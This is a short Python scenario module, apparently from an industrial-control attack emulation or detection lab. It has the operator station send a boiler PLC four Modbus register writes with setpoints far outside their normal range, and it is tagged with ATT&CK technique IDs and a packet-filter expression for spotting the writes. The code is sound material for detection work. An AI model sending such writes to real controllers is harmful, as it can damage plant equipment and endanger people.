"""The operators' own station writes setpoints that no operator ever chose."""

from __future__ import annotations

from pymodbus.client import ModbusTcpClient

from ..node import Node

TITLE = "Setpoints of the boiler far outside their range, by the operator station itself"
TECHNIQUES = ("T1692.001", "T0836")
ORIGIN = "hmi"
ENTITIES = ("hmi", "plc-boiler")
EVIDENCE = "modbus.func_code == 6 && ip.src == 10.20.1.50 && ip.dst == 10.20.1.11"


def run(node: Node) -> None:
    """Four writes of the register that the station is used to writing."""
    client = ModbusTcpClient(node.peer("plc-boiler"), timeout=1)
    client.connect()
    for value in (3100, 3400, 3900, 20):
        client.write_register(0, value, device_id=1)
        node.pause(1.0)
    client.close()
